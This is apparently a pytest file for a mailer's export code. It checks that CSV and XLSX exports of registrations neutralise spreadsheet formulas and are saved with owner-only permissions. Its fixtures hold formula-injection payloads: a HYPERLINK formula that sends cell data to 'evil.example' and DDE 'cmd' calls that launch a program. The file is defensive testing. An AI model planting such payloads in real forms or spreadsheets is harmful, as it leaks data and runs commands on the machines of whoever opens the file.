"""The export files: no text becomes a spreadsheet formula, and only their owner reads them."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from mailer.export import is_formula, to_csv, to_xlsx, write_private
from tests.events import EVENTS, WARSAW

# What registrants can write into a form, and what a spreadsheet would make of it (OWASP).
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1;"Kliknij")',
    "position": "=cmd|' /C calc'!A0",
    "city": "+SUM(1;2)",
    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
}
PHONE = "+48581234567"


def record(**fields: Any) -> dict[str, Any]:
    """One registration as `registration_records` gives it."""
    return {"id": "jan@gdynia.example.com", "name": "Jan Kowalski", "position": "",
            "city": "Gdynia", "email": "jan@gdynia.example.com", "phone": PHONE,
            "events": {"pim": "confirmed"}, "status": "complete",
            "received": "2020-10-20T10:00:00+02:00", "message_ids": [], "invited_city": None,
            **fields}


@pytest.mark.parametrize(("value", "formula"), [
    ("=1+1", True), ("+SUM(1;2)", True), ("-2+3", True), ("-A1", True), ("@SUM(A1)", True),
    ("\t=1", True), ("\rx", True), ("  =1+1", True), ('"=1+1', True), ("' =1", True),
    ("\uff1dSUM(A1)", True), ("-", True),
    (PHONE, False), ("+48 58 123-45-67", False), ("(58) 123 45 67", False), ("-12", False),
    ("Jan Kowalski", False), ("Gdańsk = Gdynia", False), ("a@b.pl", False), ("", False),
])
def test_formula_rule(value: str, formula: bool) -> None:
    """OWASP's leading characters (after spaces and quotes) are a formula; a phone is not."""
    assert is_formula(value) is formula


def test_csv_neutralises_formulas_and_keeps_the_phone() -> None:
    """Each formula cell of the CSV starts with `'`; the phone and other text are as written."""
    tab = "\t=1+1"
    data = to_csv([record(**HOSTILE), record(id="x@y.pl", name=tab, phone="-5")], EVENTS)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    header, first, second = rows
    by_column = dict(zip(header, first, strict=True))
    assert by_column["Imię i nazwisko"] == "'" + HOSTILE["name"]
    assert by_column["Stanowisko"] == "'" + HOSTILE["position"]
    assert by_column["Miasto / urząd"] == "'" + HOSTILE["city"]
    assert by_column["E-mail"] == "'" + HOSTILE["email"]
    assert by_column["Telefon"] == PHONE
    assert by_column["Status"] == "complete" and by_column["pim"] == "confirmed"
    assert second[1] == "'" + tab and second[5] == "-5"
    for cell in (c for row in rows for c in row):
        assert cell.startswith("'") or not is_formula(cell), cell


def test_xlsx_stores_formulas_as_text(tmp_path: Path) -> None:
    """No formula in the XLSX: the text as written, a string cell with Excel's quote prefix."""
    path = tmp_path / "reg.xlsx"
    to_xlsx([record(**HOSTILE)], EVENTS, path, WARSAW)
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert len(sheets) == 3 and not any(b"<f>" in s or b"<f " in s for s in sheets)
    book = openpyxl.load_workbook(path)
    for sheet in (book["Wszystkie"], book["pim"]):
        row = {h.value: c for h, c in zip(sheet[1], sheet[2], strict=True)}
        for field, header in (("name", "Imię i nazwisko"), ("position", "Stanowisko"),
                              ("city", "Miasto / urząd"), ("email", "E-mail")):
            assert row[header].value == HOSTILE[field]
            assert row[header].data_type == "s" and row[header].quotePrefix
        assert row["Telefon"].value == PHONE and not row["Telefon"].quotePrefix


def test_exports_are_written_for_the_owner_only(tmp_path: Path) -> None:
    """XLSX and other export files are 0600, also when they replace a 0644 file."""
    xlsx = tmp_path / "reg.xlsx"
    to_xlsx([record()], EVENTS, xlsx, WARSAW)
    assert xlsx.stat().st_mode & 0o777 == 0o600
    existing = tmp_path / "reg.csv"
    existing.write_text("old")
    existing.chmod(0o644)
    write_private(existing, b"new")
    assert existing.read_bytes() == b"new" and existing.stat().st_mode & 0o777 == 0o600


def test_status_csv_neutralises_formulas(make_workspace: Any) -> None:
    """`status --cities --format csv`: a city written as a formula stays text (and a `;` in it
    stays in its cell); the counts stay numbers."""
    city = HOSTILE["name"]  # holds `;` and quotes too
    ws = make_workspace(contacts=[["jan@gdynia.example.com", "Jan", "Kowalski", "Naczelnik",
                                   city]])
    result = ws.run("status", "--cities", "--format", "csv", check=True)
    rows = list(csv.DictReader(io.StringIO(result.stdout.lstrip("\ufeff")), delimiter=";"))
    assert [row["city"] for row in rows] == [f"'{city}"]
    assert rows[0]["contacts"] == "1"
    totals = ws.run("status", "--format", "csv", check=True).stdout
    assert not any(is_formula(cell) for row in csv.reader(io.StringIO(totals), delimiter=";")
                   for cell in row)
